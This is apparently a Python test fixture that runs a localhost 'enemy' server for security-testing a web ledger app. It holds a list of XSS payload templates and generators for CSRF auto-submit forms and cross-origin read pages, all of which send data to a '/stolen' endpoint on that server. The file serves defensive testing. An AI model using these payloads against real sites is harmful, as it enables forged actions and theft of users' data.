"""A site that means ill: scripts for every field of a ledger, and pages that ask our server for things."""

import json
import random
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

STOLEN = "/stolen"
FORMS = "application/x-www-form-urlencoded", "text/plain", "multipart/form-data"
_MARKUP = (
    "<script>{js}</script>", "</title><script>{js}</script>", "</textarea><svg onload={js}>",
    "<img src=x onerror={js}>", '"><img src=x onerror={js}>', "' autofocus onfocus={js} x='",
    '" autofocus onfocus={js} x="', "javascript:{js}", "<svg><script href=data:,{js} />",
    "<iframe srcdoc='<script>{js}</script>'></iframe>", "<body onload={js}>", "<details open ontoggle={js}>x",
    "<a href=javascript:{js}>x</a>", "<input onfocus={js} autofocus>",
    "<meta http-equiv=refresh content='0;url={site}/stolen'>", "<img src={site}/stolen>",
    "<base href={site}/stolen/>", "<link rel=stylesheet href={site}/stolen>",
    "<style>@import '{site}/stolen';</style>", "</script><script>{js}//",
    "<form action={site}/stolen><button autofocus>x</button></form>", "<object data={site}/stolen></object>",
    "<style>body{{background:url({site}/stolen)}}</style>", "{{{{ 7*7 }}}}{{% raw %}}<script>{js}</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>", "\x00<script>{js}</script>",
    "<<script>{js}//<</script>", "&lt;script&gt;{js}&lt;/script&gt;", "%3Cscript%3E{js}%3C/script%3E",
    "<scr\u200bipt>{js}</script>", "\u202e<script>{js}", "<script src={site}/stolen></script>",
    "<embed src={site}/stolen>", "<video poster={site}/stolen>",
)  # fmt: skip


@contextmanager
def site() -> Iterator["Enemy"]:
    """It listens on a port of its own, which is another origin."""
    enemy = Enemy(("127.0.0.1", 0), _Answer)
    threading.Thread(target=enemy.serve_forever, daemon=True).start()
    try:
        yield enemy
    finally:
        enemy.shutdown()
        enemy.server_close()


class Enemy(ThreadingHTTPServer):
    """Its page is what was put into `page`; `stolen` is what has come to it."""

    page = ""
    daemon_threads = True

    def __init__(self, *given: object) -> None:
        super().__init__(*given)  # type: ignore[arg-type]
        self.stolen: list[str] = []
        self.url = f"http://127.0.0.1:{self.server_port}"

    def markup(self, chance: random.Random) -> str:
        """Words that would be a script, or ask this site for something, if they were taken for more than words."""
        script = f"fetch(`{self.url}{STOLEN}`);window.stolen=1;alert(1)"
        return chance.choice(_MARKUP).format(js=script, site=self.url)


class _Answer(BaseHTTPRequestHandler):
    server: Enemy

    def do_GET(self) -> None:
        if self.path.startswith(STOLEN):
            self.server.stolen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(self.server.page.encode())

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        pass


def writes(chance: random.Random, ours: str, form: dict[str, str]) -> str:
    """A page that sends a correction to our server, in the name of whoever opens it."""
    fields = "".join(f"<input name={escape(name)} value='{escape(value)}'>" for name, value in form.items())
    kind, target = chance.choice(FORMS), f"{ours}/{chance.choice(('judge', 'undo'))}"
    sent = (
        f"<form method=post enctype={kind} action={target}>{fields}</form><script>document.forms[0].submit()</script>"
    )
    body, to = json.dumps("&".join(f"{name}={value}" for name, value in form.items())), json.dumps(target)
    mode = chance.choice(("no-cors", "cors", "same-origin"))
    return chance.choice(
        (
            sent,
            f"<iframe sandbox='allow-scripts allow-forms' srcdoc='{escape(sent)}'></iframe>",
            f"<iframe src='data:text/html,{escape(sent)}'></iframe>",
            f"<script>fetch({to},{{method:'POST',mode:'{mode}',credentials:'include',body:{body},"
            f"headers:{{'Content-Type':'{kind}'}}}})</script>",
            f"<script>navigator.sendBeacon({to},new Blob([{body}],{{type:'{kind}'}}))</script>",
            f"<script>x=new XMLHttpRequest();x.open('POST',{to});x.withCredentials=1;x.send({body})</script>",
        )
    )


def reads(chance: random.Random, target: str) -> str:
    """A page that takes what our server answers to itself."""
    to = json.dumps(target)
    tell = f"<script>tell=t=>t&&fetch('{STOLEN}?'+encodeURIComponent(String(t).slice(0,99)))</script>"
    return tell + chance.choice(
        (
            f"<script>fetch({to},{{credentials:'include'}}).then(r=>r.text()).then(tell)</script>",
            f"<script>fetch({to},{{mode:'no-cors'}}).then(r=>r.text()).then(tell)</script>",
            f'<iframe src={to} onload="try{{tell(this.contentDocument.body.innerText)}}catch(e){{}}"></iframe>',
            f"<script>w=window.open({to});setTimeout(()=>{{try{{tell(w.document.title)}}catch(e){{}}}},90)</script>",
            f"<script src={to} onload=\"tell('script')\"></script>",
            f"<link rel=stylesheet href={to} onload=\"tell('style')\">",
            f"<img src={to} onload=\"tell('image')\">",
            f'<object data={to} onload="try{{tell(this.contentDocument.title)}}catch(e){{}}"></object>',
            f"<script>e=new EventSource({to});e.onopen=()=>tell('events')</script>",
            f"<script>w=new Worker({to});w.onmessage=()=>tell('worker')</script>",
        )
    )
